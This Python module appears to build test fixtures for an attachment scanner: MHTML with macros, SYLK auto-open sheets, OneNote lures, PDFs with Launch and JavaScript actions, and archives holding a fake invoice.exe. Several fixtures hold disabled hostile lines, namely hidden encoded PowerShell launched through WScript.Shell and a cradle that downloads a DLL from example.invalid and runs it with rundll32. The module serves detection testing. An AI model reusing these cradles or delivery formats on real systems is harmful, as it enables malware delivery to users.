"""More fixtures: mail formats, archives, locked documents, notebooks, PDF, and the small files of Office and Windows."""

import base64
import hashlib
import os
import pathlib
import struct
import subprocess
import tempfile
import zlib

import cfb
import forms

ours = forms.ours
PASSWORD = "4432"


def active_mime(data):
    packed = zlib.compress(data)
    head = b"ActiveMime\0\0\1\xF0\4\0\0\0\xFF\xFF\xFF\xFF\0\0\7\xF0".ljust(0x1E, b"\0") + struct.pack("<H", 4)
    return head.ljust(0x2E, b"\0") + struct.pack("<I", len(data)) + packed


def mhtml(macros=None):
    """A page of Word as one file (RFC 2557), with the macros where there are some."""
    parts = [("file:///C:/A1B2/report.htm", "text/html; charset=us-ascii", "quoted-printable",
              b"<html xmlns:w=3D'urn:schemas-microsoft-com:office:word'><body>Monthly report</body></html>\r\n")]
    if macros:
        parts.append(("file:///C:/A1B2/report_files/editdata.mso", "application/x-mso", "base64", base64.encodebytes(active_mime(macros))))
    out = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_NextPart_01\"; type=\"text/html\"\r\n\r\n"
    for place, kind, encoding, body in parts:
        out += (f"------=_NextPart_01\r\nContent-Location: {place}\r\nContent-Transfer-Encoding: {encoding}\r\n"
                f"Content-Type: {kind}\r\n\r\n").encode() + body + b"\r\n"
    return out + b"------=_NextPart_01--\r\n"


def sylk(formula=None):
    rows = ["ID;PWXL;N;E"]
    if formula:
        rows += ["O;E", "NN;NAuto_open;ER101C1;KOut Flank;F", f"C;X1;Y101;K0;E{formula}", "C;X1;Y102;K0;EHALT()",
                 *(f'C;X3;Y{row};K"Figure {row}"' for row in range(1, 60))]
    else:
        rows += ['C;X1;Y1;K"Figures"', "C;X2;Y1;K42"]
    return "\r\n".join([*rows, "E", ""]).encode()


def web_query(address):
    return f"WEB\r\n1\r\n{address}\r\n\r\nSelection=AllTables\r\nFormatting=None\r\n".encode()


def settings_link(command):
    return ('<?xml version="1.0" encoding="UTF-8"?>\r\n<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">'
            "<ApplicationInformation><AppID>windows.immersivecontrolpanel</AppID>"
            f"<DeepLink>{command}</DeepLink><Icon>%windir%\\system32\\control.exe</Icon></ApplicationInformation>"
            "<SettingIdentity><PageID></PageID></SettingIdentity></SearchableContent></PCSettings>\r\n").encode()


def library(place):
    return ('<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
            "<name>Documents</name><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
            f"<url>{place}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\r\n").encode()


NOTEBOOK = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
FILE_FORMAT = bytes.fromhex("3fdd9a101b91f549a5d01791edc8aed8")
STORED = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")


def notebook(name, data):
    """A section of OneNote with one file in it, and the picture that asks for a double click."""
    def stored(content):
        return STORED + struct.pack("<QIQ", len(content), 0, 0) + content + bytes(-len(content) % 8) + FOOTER
    head = (NOTEBOOK + bytes(32) + FILE_FORMAT).ljust(1024, b"\0")
    return head + name.encode("utf-16-le") + bytes(64) + stored(picture()) + bytes(256) + stored(data) + bytes(512)


def picture():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(9) * 8)) + chunk(b"IEND", b""))


def windows_script():
    return (b'<job id="a"><script language="VBScript">\r\n\' ' + forms.COMMENT.encode() + b"\r\nIf False Then\r\n"
            b'CreateObject("WScript.Shell").Run "powershell -w hidden -e SQBOAEUAUgBUAA==", 0\r\nEnd If\r\n</script></job>\r\n')


def hta():
    return (b"<html><head><HTA:APPLICATION ID=\"a\" WINDOWSTATE=\"minimize\"><script language=\"VBScript\">\r\n' INERT SEKISHO TEST\r\n"
            b'If False Then\r\nCreateObject("WScript.Shell").Run "cmd /c powershell -w hidden -e SQBOAEUAUgBUAA==", 0\r\nwindow.close\r\nEnd If\r\n'
            b"</script></head></html>\r\n")


def powershell():
    return (f"# {forms.COMMENT}\r\nif ($false) {{\r\n$w = New-Object Net.WebClient\r\n$p = \"$env:TEMP\\a.dll\"\r\n"
            "$w.DownloadFile(('ht' + 'tp://example.invalid/inert/a.dll'), $p)\r\n"
            "Start-Process rundll32.exe -ArgumentList \"$p,#1\" -WindowStyle Hidden\r\n}\r\n").encode()


def pdf(*objects, catalog=""):
    """Objects from number 3 on; the catalogue is 1, the pages are 2, the only page is 3 + len(objects)."""
    page = 3 + len(objects)
    bodies = [f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(), f"<</Type/Pages/Kids[{page} 0 R]/Count 1>>".encode(),
              *objects, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>>>"]
    out, places = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return (out + f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode() + table
            + f"trailer<</Size {len(bodies) + 1}/Root 1 0 R>>\nstartxref\n{len(out)}\n%%EOF\n".encode())


def pdf_with(name, data):
    packed = zlib.compress(data)
    return pdf(f"<</Type/EmbeddedFile/Filter/FlateDecode/Length {len(packed)}>>stream\n".encode() + packed + b"\nendstream",
               f"<</Type/Filespec/F({name})/UF({name})/EF<</F 3 0 R>>>>".encode(),
               catalog=f"/Names<</EmbeddedFiles<</Names[({name})4 0 R]>>>>")


def pdf_launch():
    return pdf(b"<</S/Launch/Win<</F(cmd.exe)/P(/c rem INERT SEKISHO TEST)>>>>", catalog="/OpenAction 3 0 R")


def pdf_script(text):
    return pdf(b"<</S/JavaScript/JS(" + text.encode() + b")>>", catalog="/OpenAction 3 0 R")


def tnef(name, data):
    def attribute(level, number, content):
        return struct.pack("<BII", level, number, len(content)) + content + struct.pack("<H", sum(content) & 0xFFFF)
    return (struct.pack("<IH", 0x223E9F78, 1) + attribute(1, 0x00089006, struct.pack("<I", 0x10000))
            + attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\0") + attribute(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 32, 32, 0))
            + attribute(2, 0x00018010, name.encode() + b"\0") + attribute(2, 0x0006800F, data))


def outlook(name, data):
    """[MS-OXMSG], with one attachment."""
    def text(tag, value):
        return cfb.Node(f"__substg1.0_{tag:04X}001F", value.encode("utf-16-le"))
    attachment = cfb.Node("__attach_version1.0_#00000000", b"", [
        cfb.Node("__substg1.0_37010102", data), text(0x3707, name), text(0x3704, name),
        cfb.Node("__properties_version1.0", bytes(8) + struct.pack("<HHIII", 3, 0x3705, 6, 1, 0))])
    root = cfb.Node("Root Entry", b"", [
        cfb.Node("__nameid_version1.0", b"", [cfb.Node(f"__substg1.0_000{i}0102", b"") for i in (2, 3, 4)]),
        text(0x001A, "IPM.Note"), text(0x0037, "Documents"), text(0x1000, "Please find the file attached.\r\n"), attachment,
        cfb.Node("__properties_version1.0", bytes(32))])
    return cfb.write(root)


def mail_file(name, data):
    import carriers
    return carriers.bare(name, data)


def packed(name, data, command):
    """What a program makes of a file: `command` is run in its folder and writes ../out*."""
    with tempfile.TemporaryDirectory(prefix="sekisho-coverage-") as folder:
        inside = pathlib.Path(folder, "in")
        inside.mkdir()
        (inside / name).write_bytes(data)
        os.utime(inside / name, (1795478400, 1795478400))
        subprocess.run(command.format(name=name), cwd=inside, shell=True, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return next(path for path in pathlib.Path(folder).iterdir() if path.is_file()).read_bytes()


# name of the archive -> the command that writes it
ARCHIVES = {
    "CAB": ("cab", "gcab -c ../out.cab {name}"),
    "ARJ": ("arj", "arj a -i ../out.arj {name}"),
    "LZH": ("lzh", None),
    "gzip": ("gz", "gzip -nc {name} > ../out.gz"),
    "tar": ("tar", "tar cf ../out.tar {name}"),
    "xz": ("xz", "xz -c {name} > ../out.xz"),
    "bzip2": ("bz2", "bzip2 -c {name} > ../out.bz2"),
    "compress, named .z": ("z", "compress -cf {name} > ../out.z; test -s ../out.z"),
    "7z": ("7z", "7zz a ../out.7z {name}"),
    "ZIP named .r00": ("r00", "zip -qX ../out.zip {name}"),
    "uuencode": ("uue", "uuencode {name} {name} > ../out.uue"),
}


def lzh(name, data):
    """A member as it is (-lh0-) behind a header of level 0; Debian's lha only unpacks."""
    check = 0
    for byte in data:
        check ^= byte
        for _ in range(8):
            check = check >> 1 ^ (0xA001 if check & 1 else 0)
    fields = b"-lh0-" + struct.pack("<IIIBBB", len(data), len(data), 0x5D784800, 0x20, 0, len(name)) + name.encode() + struct.pack("<H", check)
    return bytes([len(fields), sum(fields) & 0xFF]) + fields + data + b"\0"


def archived(kind, name, data):
    command = ARCHIVES[kind][1]
    return packed(name, data, command) if command else lzh(name, data)


def packed_program(kind):
    return archived(kind, "invoice.exe", forms.ours("program.exe")())


def packed_notes(kind):
    return archived(kind, "notes.txt", forms.notes() * 20)


def padded(data, mebibytes):
    """A ZIP of a document that a run of zeros fills up, as those of March 2023 were."""
    packer, zeros = zlib.compressobj(6, zlib.DEFLATED, -15), bytes(1 << 20)
    body, check = packer.compress(data), zlib.crc32(data)
    for _ in range(mebibytes):
        body += packer.compress(zeros)
        check = zlib.crc32(zeros, check)
    body += packer.flush()
    size, name = len(data) + (mebibytes << 20), b"invoice.doc"
    fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0x4800, 0x5D78, check, len(body), size, len(name), 0)
    local, directory = b"PK\3\4" + fields + name + body, b"PK\1\2\x14\0" + fields + bytes(14) + name
    return local + directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(directory), len(local), 0)


def _aes(key, data):
    return subprocess.run(["openssl", "enc", "-aes-128-ecb", "-nopad", "-K", key.hex()], input=data, capture_output=True, check=True).stdout


def locked(package, password):
    """[MS-OFFCRYPTO] 2.3.4.5, standard encryption: AES-128, SHA-1, 50,000 rounds."""
    salt, verifier = bytes(range(16)), bytes(range(16, 32))
    digest = hashlib.sha1(salt + password.encode("utf-16-le")).digest()
    for i in range(50_000):
        digest = hashlib.sha1(struct.pack("<I", i) + digest).digest()
    digest = hashlib.sha1(digest + bytes(4)).digest()
    key = hashlib.sha1(bytes(c ^ 0x36 for c in digest.ljust(64, b"\0"))).digest()[:16]
    provider = "Microsoft Enhanced RSA and AES Cryptographic Provider\0".encode("utf-16-le")
    header = struct.pack("<IIIIIIII", 0x24, 0, 0x660E, 0x8004, 128, 0x18, 0, 0) + provider
    info = struct.pack("<HHII", 3, 2, 0x24, len(header)) + header + struct.pack("<I", 16) + salt + _aes(key, verifier)
    info += struct.pack("<I", 20) + _aes(key, hashlib.sha1(verifier).digest().ljust(32, b"\0"))
    data = struct.pack("<Q", len(package)) + _aes(key, package + bytes(-len(package) % 16))
    spaces = cfb.Node("\6DataSpaces", b"", [cfb.Node("Version", bytes(76))])
    return cfb.write(cfb.Node("Root Entry", b"", [cfb.Node("EncryptionInfo", info), cfb.Node("EncryptedPackage", data), spaces]))
